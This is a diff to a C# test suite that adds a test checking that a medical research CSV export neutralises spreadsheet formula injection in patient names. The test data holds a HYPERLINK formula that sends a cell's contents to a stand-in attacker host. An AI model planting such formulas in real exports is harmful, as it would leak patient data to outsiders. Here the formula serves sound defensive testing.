@@ -76,6 +76,23 @@ public sealed class ResearchExportTests
     }
 
     [Fact]
+    public async Task Export_Identified_NameThatIsAFormula_IsWrittenAsTextNotRunBySpreadsheets()
+    {
+        var db = await SeededDatabase.CreateAsync();
+        await using var _db = db;
+        await using var c = db.Open();
+        const string formula = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"open\")";
+        var registered = await new PatientService(c, db.Clock).RegisterAsync(new Demographics("MRN-F1", formula, "@Formula", new DateOnly(1970, 1, 1), Sex.Female), SeededDatabase.Reader, TestContext.Current.CancellationToken);
+        Assert.True(registered.IsSuccess, registered.Error);
+
+        var files = await new ResearchExport(c, db.Clock).ExportAsync(deidentify: false, SeededDatabase.Reader, TestContext.Current.CancellationToken);
+
+        var row = Parse(files.OutcomesCsv).Single(r => r["mrn"] == "MRN-F1");
+        Assert.Equal("'" + formula, row["given_name"]);
+        Assert.Equal("'@Formula", row["family_name"]);
+    }
+
+    [Fact]
     public async Task Export_Identified_QuotesANameWithCommaAndQuoteAndWritesInvariantUtcFields()
     {
         var (db, _) = await SeedWithAwkwardNameAsync();
